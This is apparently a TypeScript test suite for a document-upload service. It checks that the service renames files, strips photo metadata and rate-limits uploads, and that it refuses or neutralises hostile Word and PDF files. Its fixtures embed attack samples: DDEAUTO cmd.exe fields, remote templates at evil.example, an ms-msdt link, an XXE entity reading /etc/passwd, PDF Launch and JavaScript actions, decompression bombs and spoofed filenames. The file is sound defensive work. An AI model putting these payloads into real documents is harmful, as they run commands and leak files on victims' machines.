/** What comes from outside, through the doors it comes by: proven, named by what it is, weighed, and never handed on as a thing that runs. */
import { DOCX } from '#kernel/mediatypes.ts';
import { one, rows, sql } from '#server/sql.ts';
import { startTestApp } from '#tests/support/app.ts';
import type { Person, TestApp } from '#tests/support/app.ts';
import { nested, pdf, picture, relationships, word } from '#tests/support/papers.ts';
import { reencodePictures, sweepFiles } from '#features/files/jobs.ts';
import { signedFileUrl } from '#features/files/links.ts';
import { FileMissing } from '#providers/files/port.ts';
import assert from 'node:assert/strict';
import { readdir, readFile, utimes } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

let app: TestApp;
let paul: Person;
let claire: Person;
let ddl: number;
before(async () => {
  app = await startTestApp();
  [paul, claire] = [await app.as('paul'), await app.as('claire')];
  ({ id: ddl } = await one(
    app.db,
    sql<{
      id: number;
    }>`select id from request where agid = 1 and sender_uid = ${paul.uid} order by id limit 1`,
  ));
});
after(() => app.close());

function attach(bytes: Buffer, name: string, by = paul, headers: Record<string, string> = {}) {
  const form = new FormData();
  form.set('id_ddl', String(ddl));
  form.set('message', 'Voici');
  form.set('myFile', new Blob([new Uint8Array(bytes)]), name);
  return by.post('ddlchats', form, headers);
}
async function taken(bytes: Buffer, name: string) {
  const answer = await attach(bytes, name);
  assert.equal(answer.status, 200, `${name}: ${answer.text}`);
  return answer.body.models[0]! as {
    file_name: string;
    file_mime: string;
    filepath: string;
    previewpath: string;
  };
}
const refusal = async (bytes: Buffer, name = 'piece.docx') =>
  (await attach(bytes, name)).body.warnings?.[0]?.type;
const fetched = async (path: string) => {
  const response = await fetch(`${app.url}${path}`);
  return {
    bytes: Buffer.from(await response.arrayBuffer()),
    headers: response.headers,
    status: response.status,
  };
};
const field = (instruction: string, prefix = 'w') =>
  `<w:p xmlns:${prefix}="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><${prefix}:instrText>${instruction}</${prefix}:instrText></w:r></w:p>`;

test('C32 B40 whatever a file is called, it is kept, shown and handed over under the ending of what it is', async () => {
  const docx = word();
  for (const [bytes, given, kept] of [
    [docx, 'facture.hta', 'facture.docx'],
    [docx, 'facture.exe', 'facture.docx'],
    [docx, 'facture.exe.docx', 'facture-exe.docx'],
    [docx, 'facture.pdf.html', 'facture-pdf.docx'],
    [docx, 'fac\u202Exture\u2066.\u200Bdocx', 'facxture.docx'],
    [docx, '\u061C\uFEFF\u200Ebail\u200F.scr   ', 'bail.docx'],
    [docx, 'CON.docx', 'fichier CON.docx'],
    [docx, 'aux.x.docx', 'aux-x.docx'],
    [pdf(), 'page.html', 'page.pdf'],
    [pdf(), 'Contrat n° 12.2027', 'Contrat n° 12.2027.pdf'],
    [await picture(20, 20, { format: 'jpeg' }), 'IMG_0001.JPEG', 'IMG_0001.JPEG'],
    [await picture(20, 20), 'photo.svg', 'photo.png'],
  ] as const) {
    const file = await taken(bytes, given);
    assert.equal(file.file_name, kept, given);
    const { headers } = await fetched(file.filepath);
    const disposition = headers.get('content-disposition') ?? '';
    assert.ok(disposition.endsWith(`filename*=UTF-8''${encodeURIComponent(kept)}`), disposition);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.equal(headers.get('cache-control'), 'private, no-store', 'C29 a logout does not reach the cache');
    assert.match(disposition, bytes === docx ? /^attachment;/ : /^inline;/);
  }
});

test('C32 C05 a name is never cut inside a character, however long it is', async () => {
  for (const name of [
    `${'🏖'.repeat(130)}.pdf`,
    `${'a'.repeat(199)}🏖.pdf`,
    `${'👩‍👩‍👧'.repeat(60)}.pdf`,
    `a${'\u0301'.repeat(900)}.pdf`,
  ]) {
    const { file_name: kept, filepath } = await taken(pdf(), name);
    assert.ok(
      kept.isWellFormed() && !kept.includes('\uFFFD') && kept.endsWith('.pdf') && kept.length <= 200,
      kept,
    );
    assert.equal(
      [...kept.replace(/\.pdf$/, '').replaceAll('👩‍👩‍👧', '')].filter((sign) => sign === '\u200D').length,
      0,
    );
    assert.equal((await fetched(filepath)).status, 200);
  }
});

test('C32 S12 a zip is opened: one that only holds the words of a Word document is refused, and so is half a PDF', async () => {
  const words = Buffer.from('PK\u0003\u0004 word/document.xml [Content_Types].xml <script>alert(1)</script>');
  const docx = word();
  for (const [what, bytes] of Object.entries({
    words,
    'a page with a document behind it': Buffer.concat([
      Buffer.from('<html><script>alert(1)</script></html>'),
      docx,
    ]),
    'a document with a page behind it': Buffer.concat([
      docx,
      Buffer.from('<html><script>alert(1)</script></html>'),
    ]),
    'a document cut short': docx.subarray(0, -10),
    'no main part': word('', { 'word/document.xml': null }),
    'another kind of document': word('', {
      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    }),
    'a PDF without its end': Buffer.from('%PDF-1.4 plan'),
    'a PDF of no version': Buffer.from('%PDF-<script>startxref 0 %%EOF'),
  }))
    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
  const feigned = Buffer.concat([Buffer.from('ffd8ffe00010', 'hex'), words]);
  assert.equal(await refusal(feigned, 'vue.jpg'), 'pictureUnreadable');
});

test('C32 S13 a Word document that runs or fetches something is refused, by whatever prefix it says so', async () => {
  const RELS = 'word/_rels/document.xml.rels';
  const SETTINGS = 'word/_rels/settings.xml.rels';
  const declared = (type: string) =>
    `<?xml version="1.0"?><q:Types xmlns:q="http://schemas.openxmlformats.org/package/2006/content-types"><q:Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><q:Default Extension="bin" ContentType="${type}"/><q:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></q:Types>`;
  for (const [what, bytes] of Object.entries({
    macros: word('', { 'word/vbaProject.bin': 'x' }),
    'macros of another name': word('', {
      'word/m.bin': 'x',
      '[Content_Types].xml': declared('application/vnd.ms-office.vbaProject'),
    }),
    'macro-enabled': word('', {
      '[Content_Types].xml': declared('application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
    'a field': word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ')),
    'a field of another prefix': word(field(' DDEAUTO cmd ', 'q')),
    'a field in two runs': word(field(' DDEA') + field('UTO cmd ')),
    'a field in letters of numbers': word(field(' &#68;&#x44;E cmd ')),
    'a field in a literal': word(field(' <![CDATA[INCLUDETEXT "x"]]> ')),
    'a simple field': word(
      '<w:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr=" LINK Excel.Sheet.8 "/></w:p>',
    ),
    'a foreign piece': word(
      '<q:altChunk xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" r="1"/>',
    ),
    'a template elsewhere': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm'),
    }),
    'a template elsewhere by prefix': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm', { prefix: 'p' }),
    }),
    'a template on a server': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'),
    }),
    'an object': word('', {
      [RELS]: relationships('oleObject', 'embeddings/o.bin', { prefix: 'p', mode: 'Internal' }),
    }),
    'a program in a package': word('', {
      [RELS]: relationships('package', 'embeddings/o.docm', { mode: 'Internal' }),
    }),
    'a frame': word('', { [RELS]: relationships('frame', 'https://evil.example/', { prefix: 'p' }) }),
    'a link that runs': word('', { [RELS]: relationships('hyperlink', 'ms-msdt:/id', { prefix: 'p' }) }),
    'a part of another name': word('', { 'word/settings.txt': `\n  <a><b instr="DDE cmd"/></a>` }),
  }))
    assert.equal(await refusal(bytes), 'documentActive', what);
  for (const [what, bytes] of Object.entries({
    entities: word('', {
      'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
    'another alphabet': word('', { 'word/settings.xml': Buffer.from('\uFEFF<a/>', 'utf16le') }),
    'another alphabet by its word': word('', {
      'word/settings.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>',
    }),
    'tags that cross': word('<w:p><w:r></w:p></w:r>'),
    'a name twice': word('<w:p a="1" a="2"/>'),
  }))
    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
  // What everybody's documents hold.
  for (const [what, bytes] of Object.entries({
    'a page number and a link': word(
      field(' PAGE ') + field(' HYPERLINK "https://exemple.fr/link/dde" \\h '),
      {
        [RELS]: relationships('hyperlink', 'https://exemple.fr/link'),
      },
    ),
    'the template of their own disk': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'file:///C:\\Users\\paul\\Normal.dotm'),
    }),
    'a chart': word('', {
      [RELS]: relationships('package', 'embeddings/Feuille.xlsx', { mode: 'Internal' }),
    }),
    'signs in an attribute': word(
      '<w:p title="a &gt; b > c"><!-- <Relationship Type="/oleObject"/> --></w:p>',
    ),
  }))
    assert.equal((await attach(bytes, 'bail.docx')).status, 200, what);
});

const run = (inner: string) => `<w:r>${inner}</w:r>`;
const said = (words: string) => run(`<w:instrText xml:space="preserve">${words}</w:instrText>`);
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const whole = (instruction: string, result = '') =>
  mark('begin') + instruction + (result && mark('separate') + result) + mark('end');

test('C32 S13 only parts, relationships and fields that are known to be harmless are taken, and no field in the name of another', async () => {
  const RELS = 'word/_rels/document.xml.rels';
  const inner = { mode: 'Internal' };
  const sheet = (part: string, bytes?: Buffer) =>
    word('', {
      [RELS]: relationships('package', 'embeddings/a.xlsx', inner),
      'word/embeddings/a.xlsx': bytes ?? word('', { [part]: 'x' }),
      '[Content_Types].xml': withSheet,
    });
  const withSheet = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
  const name = whole(said(' QUOTE 68 68 69 '));
  for (const [what, bytes] of Object.entries({
    'a field as the name of another': word(`<w:p>${whole(name + said(' c:\\a.exe '))}</w:p>`),
    'a field as half of a name': word(`<w:p>${whole(said(' D') + name + said('E cmd '))}</w:p>`),
    'a simple field as a name': word(
      `<w:p>${mark('begin')}<w:fldSimple w:instr=" QUOTE 68 68 69 "/>${said(' cmd ')}${mark('end')}</w:p>`,
    ),
    'a name kept for later': word(`<w:p>${whole(said(' SET a "DDE" '))}</w:p>`),
    'a name in plain words': word(`<w:p>${whole(run('<w:t> DDEAUTO cmd </w:t>'))}</w:p>`),
    'a field that prints': word(`<w:p>${whole(said(' PRINT 27 '))}</w:p>`),
    'a picture on a server': word(
      `<w:p>${whole(said(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '))}</w:p>`,
    ),
    'a ribbon': word('', { [RELS]: relationships('ui/extensibility', 'customUI/customUI.xml', inner) }),
    'a pane': word('', { [RELS]: relationships('webextensiontaskpanes', 'a.xml', inner) }),
    'a program nobody names': word('', { 'word/evil.exe': 'MZ' }),
    'a sheet of the old kind': sheet('', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    'a sheet with macros': sheet('xl/vbaProject.bin'),
  }))
    assert.equal(await refusal(bytes), 'documentActive', what);
  for (const [what, bytes] of Object.entries({
    'a table of contents': word(
      `<w:p>${whole(said(' TOC \\o "1-3" \\h '), whole(said(' HYPERLINK \\l "_Toc1" '), run('<w:t>Le lien, page </w:t>') + whole(said(' PAGEREF _Toc1 \\h '), run('<w:t>1</w:t>'))))}</w:p>`,
    ),
    'a choice': word(
      `<w:p>${whole(said(' IF ') + whole(said(' MERGEFIELD sexe ')) + said(' = "F" "Mme" "M." '))}</w:p>`,
    ),
    'a sum': word(`<w:p>${whole(said(' =SUM(ABOVE) '), run('<w:t>12</w:t>'))}</w:p>`),
    'a picture of a page': word(
      `<w:p>${whole(said(' INCLUDEPICTURE "https://exemple.fr/a.png" \\* MERGEFORMATINET '))}</w:p>`,
    ),
    'a sheet': sheet('xl/media/image1.png'),
  }))
    assert.equal((await attach(bytes, 'bail.docx')).status, 200, what);
});

test('C32 S13 a PDF that does something by itself or carries files is handed over and never shown, also where that is packed', async () => {
  const holding = (words: string | Buffer) =>
    Buffer.concat([
      Buffer.from('%PDF-1.5\n1 0 obj\n'),
      Buffer.from(words),
      Buffer.from('\nendobj\n'),
      pdf().subarray(9),
    ]);
  const packed = (words: string, filter = '/FlateDecode') =>
    holding(
      Buffer.concat([
        Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\r\n`),
        deflateSync(Buffer.from(words)),
        Buffer.from('\nendstream'),
      ]),
    );
  const how = async (bytes: Buffer) => {
    const { filepath } = await taken(bytes, 'plan.pdf');
    return (await fetched(filepath)).headers.get('content-disposition')?.split(';')[0];
  };
  for (const [what, bytes] of Object.entries({
    'a program': holding('<< /OpenAction << /S /Launch /F (evil.exe) >> >>'),
    'a script': holding('<< /AA << /O << /S/JavaScript /JS (app.alert(1)) >> >> >>'),
    'a script in numbers': holding('<< /S /J#61vaScript >>'),
    'files inside': holding('<< /Names << /EmbeddedFiles 3 0 R >> >>'),
    'something at the opening': holding('<< /OpenAction 3 0 R >>'),
    'a sealed one': holding('<< /Encrypt 3 0 R >>'),
    'a packed script': packed('1 0 << /S /JavaScript >>'),
    'one packed otherwise': packed('1 0 << /S /GoTo >>', '/LZWDecode'),
    'one that unfolds': packed(' '.repeat(9_000_000)),
  }))
    assert.equal(await how(bytes), 'attachment', what);
  for (const [what, bytes] of Object.entries({
    'a page to begin with': holding('<< /OpenAction [3 0 R /Fit] >>'),
    'packed pages': packed(
      '1 0 << /Type /Page /Annots [<< /A << /S /URI /URI (https://exemple.fr) >> >>] >>',
    ),
  }))
    assert.equal(await how(bytes), 'inline', what);
});

test('C32 ten kilobytes that unfold are refused in words: nested, many, or closely packed', async () => {
  const words =
    'Ce document Word est trop volumineux ou trop compliqué pour être vérifié. Enregistrez-le en PDF, puis envoyez-le.';
  const noise = 30_000;
  for (const [what, bytes] of Object.entries({
    'nested paragraphs': nested('paragraphs', 200_000),
    'nested tables': nested('tables', 20_000),
    'nested paragraphs under noise': nested('paragraphs', 200_000, noise),
    'nested tables under noise': nested('tables', 20_000, noise),
    'two hundred tables': nested('tables', 200),
    'many paragraphs': word('<w:p/>'.repeat(200_001)),
    zeros: word('', { 'word/media/a.bmp': Buffer.alloc(39_000_000) }),
    'more zeros': word('', { 'word/media/a.bmp': Buffer.alloc(45_000_000) }),
  })) {
    const answer = await attach(bytes, 'bail.docx');
    assert.deepEqual([answer.status, answer.body.warnings?.[0]?.message], [422, words], what);
  }
  assert.equal(
    (
      await attach(
        word('<w:tbl><w:tr><w:tc>'.repeat(20) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat(20)),
        'bail.docx',
      )
    ).status,
    200,
  );
});

test('D01 C02 a sealed address opens its one file, of whatever kind, to anybody until its hour is over; changed in any part it opens nothing', async () => {
  const { secret } = app.app.config;
  const nora = await app.as('nora');
  const open = (address: string, token?: string) =>
    fetch(
      `${app.url}${address}`,
      token === undefined ? {} : { headers: { authorization: `Bearer ${token}` } },
    );
  const kinds = ['attachment', 'preview', 'contract', 'template', 'other'] as const;
  const made: { id: number }[] = [];
  for (const kind of kinds) {
    const { path } = await app.app.providers.files.put(pdf(kind), { kind: 'attachment' });
    made.push(
      await one(
        app.db,
        sql<{ id: number }>`insert into file (agid, path, name, mime, bytes, sha256, purpose)
          values (1, ${path}, 'a.pdf', 'application/pdf', 1, 'x', ${kind}) returning id`,
      ),
    );
  }
  for (const [place, { id }] of made.entries()) {
    const kind = kinds[place]!;
    const address = signedFileUrl(secret, id);
    const other = made[(place + 1) % made.length]!.id;
    assert.equal((await open(address)).status, 200, kind);
    assert.equal((await open(address, nora.token)).status, 200, kind);
    const until = Number(/until=(\d+)/.exec(address)![1]);
    for (const [what, wrong] of Object.entries({
      'without a seal': address.replace(/\?.*/, ''),
      'another file': address.replace(`/${id}?`, `/${other}?`),
      'a later hour': address.replace(`until=${until}`, `until=${until + 3_600_000}`),
      'a changed seal': address.replace(/seal=./, (start) => (start.endsWith('A') ? 'seal=B' : 'seal=A')),
      'half a seal': address.slice(0, -1),
      'an hour that is over': signedFileUrl(secret, id, Date.now() - 2 * 3_600_000),
      'another secret': signedFileUrl(`${secret}x`, id),
    })) {
      assert.equal((await open(wrong)).status, 401, `${kind} ${what}`);
      assert.equal((await open(wrong, nora.token)).status, 404, `${kind} ${what}`);
    }
  }
});

test('C32 a picture is decoded and written anew: upright, without place or maker, small where the thread shows it', async () => {
  const given = await picture(1200, 800, { format: 'jpeg', exif: true });
  assert.ok((await sharp(given).metadata()).exif);
  const file = await taken(given, 'degat.jpg');
  const [whole, preview] = [await fetched(file.filepath), await fetched(file.previewpath)];
  const [seen, small] = [await sharp(whole.bytes).metadata(), await sharp(preview.bytes).metadata()];
  assert.deepEqual(
    [seen.format, seen.width, seen.height, seen.exif, seen.orientation],
    ['jpeg', 800, 1200, undefined, undefined],
  );
  assert.deepEqual([small.format, small.width, small.height, small.exif], ['webp', 480, 360, undefined]);
  assert.equal(preview.headers.get('content-type'), 'image/webp');
  assert.notEqual(preview.headers.get('etag'), whole.headers.get('etag'));

  const wide = await taken(await picture(6000, 1000), 'plan.png');
  const { width, height } = await sharp((await fetched(wide.filepath)).bytes).metadata();
  assert.deepEqual([width, height], [4096, 683]);
  assert.equal((await taken(await picture(20, 20, { format: 'gif' }), 'rire.gif')).file_name, 'rire.png');

  const tooWide = await attach(await picture(10_000, 10_000), 'mur.png');
  assert.deepEqual(
    [tooWide.status, tooWide.body.warnings?.[0]?.message],
    [422, 'Cette image est trop grande (10000 × 10000 pixels). Réduisez-la avant de l’envoyer.'],
  );
  assert.equal(await refusal(given.subarray(0, 600), 'coupee.jpg'), 'pictureUnreadable');
});

/** A file of the time before: its bytes as they were sent. */
async function keptAsItCame(bytes: Buffer, name = 'vue.jpg', mime = 'image/jpeg') {
  const { path, sha256 } = await app.app.providers.files.put(bytes, { kind: 'attachment' });
  const { id } = await one(
    app.db,
    sql<{ id: number }>`insert into file (agid, path, name, mime, bytes, sha256, purpose, ddl_id, uid)
      values (1, ${path}, ${name}, ${mime}, ${bytes.length}, ${sha256}, 'attachment', ${ddl}, ${paul.uid}) returning id`,
  );
  return { id, path };
}
const rowOf = (id: number) =>
  one(
    app.db,
    sql<{
      path: string;
      mime: string;
      name: string;
      preview_path: string | null;
    }>`select path, mime, name, preview_path from file where id = ${id}`,
  );
const asked = (id: number) =>
  fetch(`${app.url}/api/fileserver/by-id/${id}`, { headers: { authorization: `Bearer ${claire.token}` } });

test('C32 what was kept before as it came leaves clean too: its picture, its name, and never as something that runs', async () => {
  const old = async (bytes: Buffer, name: string, mime: string) => {
    const { id, path } = await keptAsItCame(bytes, name, mime);
    const response = await asked(id);
    const kept = await rowOf(id);
    return {
      kept,
      path,
      bytes: Buffer.from(await response.arrayBuffer()),
      disposition: response.headers.get('content-disposition') ?? '',
      status: response.status,
    };
  };
  const photo = await old(await picture(300, 200, { format: 'jpeg', exif: true }), 'vue.jpg', 'image/jpeg');
  const { exif, width } = await sharp(photo.bytes).metadata();
  assert.deepEqual([exif, width, photo.kept.path === photo.path], [undefined, 200, false]);
  const paper = await old(word(), 'facture\u202E.hta', DOCX);
  assert.match(paper.disposition, /^attachment; filename="facture\.docx"; filename\*=UTF-8''facture\.docx$/);
  const feigned = await old(
    Buffer.from('\u0089PNG\r\n\u001a\n<script>alert(1)</script>', 'latin1'),
    'vue.png.html',
    'image/png',
  );
  assert.deepEqual([feigned.status, feigned.kept.mime], [404, 'image/png']);
});

/** The thread's message on which that file hangs, as staff reads it. */
async function shownIn(id: number) {
  await sql`insert into message (ddl_id, agid, action, message, author_uid, written_by_agency, file_id) values (${ddl}, 1, 'ATTACH', '', ${paul.uid}, false, ${id})`.execute(
    app.db,
  );
  const thread = await claire.get(`ddlchats/list/${ddl}`);
  return thread.body.models.find(({ file_name: name }) => name === `photo-${id}.jpg`);
}

test('C32 a photo a family sent before the update stays a photo: too many points or cut short, it is shown without its place, and its bytes are kept aside', async () => {
  const { files } = app.app.providers;
  const whole = await picture(1200, 900, { format: 'jpeg', exif: true });
  for (const [what, bytes, mime, width] of [
    ['a wall of one colour', await picture(7000, 3100), 'image/png', 4096],
    ['a large drawing', await picture(5000, 4100, { format: 'webp' }), 'image/webp', 4096],
    ['sixty million points', await picture(6000, 10_000, { format: 'jpeg', exif: true }), 'image/jpeg', 4096],
    ['a JPEG without its end', whole.subarray(0, -9), 'image/jpeg', 900],
    ['half a JPEG', whole.subarray(0, Math.round(whole.length * 0.7)), 'image/jpeg', 900],
  ] as const) {
    const { id, path } = await keptAsItCame(bytes, 'Salon.JPG', mime);
    const response = await asked(id);
    const kept = await rowOf(id);
    const seen = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
    assert.deepEqual(
      [response.status, kept.mime, kept.name.replace(/\.\w+$/, ''), seen.exif, seen.width],
      [200, mime, 'Salon', undefined, width],
      what,
    );
    assert.ok(kept.preview_path, what);
    assert.deepEqual(await files.read(path), bytes, what);
    assert.equal((await claire.get(`fileserver/${path}`)).status, 404, what);
  }
});

test('C32 a picture of which nothing can be decoded keeps its name and its bytes, and nobody gets the place that stands in it', async () => {
  const bytes = (await picture(1200, 900, { format: 'jpeg', exif: true })).subarray(0, 500);
  assert.ok(bytes.includes('Exif'));
  const { id, path } = await keptAsItCame(bytes, 'photo.jpg');
  await sql`update file set name = ${`photo-${id}.jpg`} where id = ${id}`.execute(app.db);
  for (const again of [1, 2]) {
    const response = await asked(id);
    const words = await response.text();
    assert.equal(response.status, 404, String(again));
    assert.match(words, /Cette image est abîmée/);
    assert.ok(!words.includes('Exif'));
  }
  const { mime } = await rowOf(id);
  const shown = await shownIn(id);
  assert.deepEqual([mime, shown?.['file_mime'], shown?.['previewpath']], ['image/jpeg', 'image/jpeg', '']);
  assert.deepEqual(await app.app.providers.files.read(path), bytes);
  assert.ok(!String(await reencodePictures.run(app.app, {})).includes('again'), 'it has had its turn');
});

test('C32 the bytes a picture had before go after ninety days, and with them what no row points at; never from under another database', async () => {
  const { files } = app.app.providers;
  const isKept = (path: string) =>
    files.read(path).then(
      () => true,
      (error: unknown) => {
        if (error instanceof FileMissing) return false;
        throw error;
      },
    );
  const old = await keptAsItCame(await picture(300, 200, { format: 'jpeg', exif: true }));
  const young = await keptAsItCame(await picture(300, 200, { format: 'jpeg', exif: true }));
  for (const { id } of [old, young]) assert.equal((await asked(id)).status, 200);
  const stray = await files.put(Buffer.from('nobody'), { kind: 'attachment' });
  const fresh = await files.put(Buffer.from('nobody yet'), { kind: 'attachment' });
  const aged = new Date(Date.now() - 8 * 24 * 3_600_000);
  for await (const { path } of files.list())
    if (path !== fresh.path) await utimes(join(app.app.config.dataDir, 'files', path), aged, aged);
  await sql`update file set original_since = now() - interval '91 days' where id = ${old.id}`.execute(app.db);
  await sql`update file set original_since = now() - interval '89 days' where id = ${young.id}`.execute(
    app.db,
  );
  const still = async () => Promise.all([old.path, young.path, stray.path, fresh.path].map(isKept));
  const served = (await rowOf(young.id)).path;

  await sql`alter table file rename to file_elsewhere; create table file (like file_elsewhere including all)`.execute(
    app.db,
  );
  await sweepFiles.run(app.app, {});
  await sql`drop table file; alter table file_elsewhere rename to file`.execute(app.db);
  assert.deepEqual(await still(), [true, true, true, true], 'a database that knows none of them');

  assert.equal(await sweepFiles.run(app.app, {}), '1 originals, 1 files of nobody');
  assert.deepEqual(await still(), [false, true, false, true]);
  assert.ok(await isKept(served));
  assert.equal((await asked(old.id)).status, 200);
});

test('C32 a clerk’s picture is taken while a guest’s forty wait, and those of the forty that find no place are refused in words', async () => {
  await sql`delete from rate_limit`.execute(app.db);
  const slow = await picture(2600, 2600, { format: 'gif' });
  const small = await picture(50, 50, { format: 'jpeg' });
  const order: string[] = [];
  const sent = (who: string, bytes: Buffer, by: Person) =>
    attach(bytes, 'vue', by).then(({ status }) => void order.push(`${who} ${status}`));
  const many = Array.from({ length: 40 }, () => sent('paul', slow, paul));
  // The first that is answered is the first that found the line full.
  await Promise.race(many);
  await Promise.all([...many, sent('claire', small, claire)]);
  assert.ok(order.includes('claire 200'), order.join());
  assert.ok(order.lastIndexOf('paul 200') > order.indexOf('claire 200'), order.join());
  assert.ok(order.filter((one) => one === 'paul 503').length >= 20, order.join());
});

test('C32 the points of a guest’s pictures are weighed too, and a drawing has fewer than a photograph', async () => {
  await sql`delete from rate_limit`.execute(app.db);
  for (const format of ['gif', 'png', 'webp'] as const)
    assert.equal(await refusal(await picture(7000, 7000, { format }), 'mur'), 'pictureTooWide', format);
  await sql`insert into rate_limit (bucket, subject, window_start, hits)
    select 'upload-points', subject, window_start, 490_000_000 from rate_limit where bucket = 'upload-bytes'
    on conflict (bucket, subject, window_start) do update set hits = excluded.hits`.execute(app.db);
  const answer = await attach(await picture(4000, 3000, { format: 'jpeg' }), 'vue.jpg');
  assert.deepEqual([answer.status, answer.body.warnings?.[0]?.type], [429, 'picturesTooMany']);
  assert.equal((await attach(await picture(400, 300, { format: 'jpeg' }), 'vue.jpg')).status, 200);
  assert.equal((await attach(await picture(4000, 3000, { format: 'jpeg' }), 'vue.jpg', claire)).status, 200);
});

test('C32 forty old photographs of one thread, looked at at once, are all seen', async () => {
  const photo = await picture(60, 40, { format: 'jpeg', exif: true });
  const ids: number[] = [];
  for (let n = 0; n < 40; n += 1) ids.push((await keptAsItCame(photo)).id);
  const answers = await Promise.all([...ids, ...ids].map(asked));
  assert.deepEqual([...new Set(answers.map(({ status }) => status))], [200]);
  const seen = await Promise.all(answers.map(async (answer) => Buffer.from(await answer.arrayBuffer())));
  assert.equal((await sharp(seen[79]).metadata()).exif, undefined);
  assert.equal(new Set(seen.map((bytes) => bytes.toString('base64'))).size, 1);
});

test('C32 twenty pictures whose bytes are gone keep no other from being written anew', async () => {
  const { files } = app.app.providers;
  const photo = await picture(300, 200, { format: 'jpeg', exif: true });
  for (let n = 0; n < 20; n += 1) await files.remove((await keptAsItCame(photo)).path);
  const behind = await keptAsItCame(photo);
  // The clock runs it too: one of three is ours.
  for (let turn = 0; turn < 3; turn += 1) await reencodePictures.run(app.app, {});
  const { preview_path, path } = await rowOf(behind.id);
  assert.ok(preview_path);
  assert.equal((await sharp(await files.read(path)).metadata()).exif, undefined);
  await sql`delete from file where preview_path is null and not clean_failed and purpose = 'attachment' and mime like 'image/%'`.execute(
    app.db,
  );
});

test(
  'C32 a picture whose decoder was ended is left as it is, told to come back for, and written anew another time',
  { skip: process.platform !== 'linux' && 'processes are looked up in /proc' },
  async () => {
    await sql`delete from rate_limit`.execute(app.db);
    const photo = await picture(6000, 8000, { format: 'jpeg', exif: true });
    const { id, path } = await keptAsItCame(photo);
    const kept = await rowOf(id);
    assert.equal(await whileDecodersDie(async () => (await asked(id)).status), 503);
    assert.deepEqual(await rowOf(id), kept);
    await app.app.providers.files.read(path);
    const refused = await whileDecodersDie(() => attach(photo, 'vue.jpg'));
    assert.deepEqual([refused.status, refused.body.warnings?.[0]?.type], [503, 'pictureGivenUp']);
    assert.equal(refused.headers.get('retry-after'), '60', 'a minute, as the words say');
    assert.match(
      String(await whileDecodersDie(() => reencodePictures.run(app.app, {}))),
      /^0 pictures written anew, 0 missing, 1 to be tried again/,
    );
    assert.deepEqual(await rowOf(id), kept);
    const seen = await sharp(Buffer.from(await (await asked(id)).arrayBuffer())).metadata();
    assert.deepEqual([seen.exif, seen.width], [undefined, 4096]);
  },
);

/** As a machine without memory does: every process of ours that decodes is ended until the answer is there. */
async function whileDecodersDie<T>(work: () => Promise<T>): Promise<T> {
  const over = new AbortController();
  const done = work().finally(() => over.abort());
  while (!over.signal.aborted) {
    for (const pid of await decoders())
      try {
        process.kill(pid, 'SIGKILL');
      } catch (error) {
        if ((error as NodeJS.ErrnoException).code !== 'ESRCH') throw error;
      }
    await pause(20);
  }
  return done;
}

async function decoders(): Promise<number[]> {
  const found = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const isOurs = async (pid: string) => {
    const [status, line] = await Promise.all(
      ['status', 'cmdline'].map((name) => readFile(`/proc/${pid}/${name}`, 'utf8').catch(() => '')),
    );
    return new RegExp(`^PPid:\\t${process.pid}$`, 'm').test(status!) && line!.includes('pictures/worker.ts');
  };
  const ours = await Promise.all(found.map(isOurs));
  return found.filter((_, index) => ours[index]).map(Number);
}

test('C32 what one guest sends in a day is weighed, of many at once only those that fit', async () => {
  await sql`delete from rate_limit`.execute(app.db);
  const heavy = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(4_900_000, 32), pdf().subarray(9)]);
  const kept = async () => (await rows(app.db, sql`select from file where uid = ${paul.uid}`)).length;
  const before = await kept();
  const statuses: number[] = [];
  // Two at once: one sender has room for no more.
  for (let turn = 0; turn < 8; turn += 1) {
    const answers = await Promise.all([1, 2].map(() => attach(heavy, 'plan.pdf')));
    for (const { status, body } of answers) {
      statuses.push(status);
      if (status === 200) continue;
      assert.match(
        body.warnings?.[0]?.message ?? '',
        /près de 60 Mo[^.]*\. Ce fichier n’a pas été enregistré\. Envoyez-le demain/,
      );
    }
  }
  assert.deepEqual(
    [statuses.filter((status) => status === 200).length, statuses.filter((status) => status === 429).length],
    [12, 4],
  );
  assert.equal(await kept(), before + 12);
  assert.equal((await paul.post('ddlchats', { id_ddl: ddl, message: 'Sans fichier' })).status, 200);
  assert.equal((await attach(heavy, 'plan.pdf', claire)).status, 200);
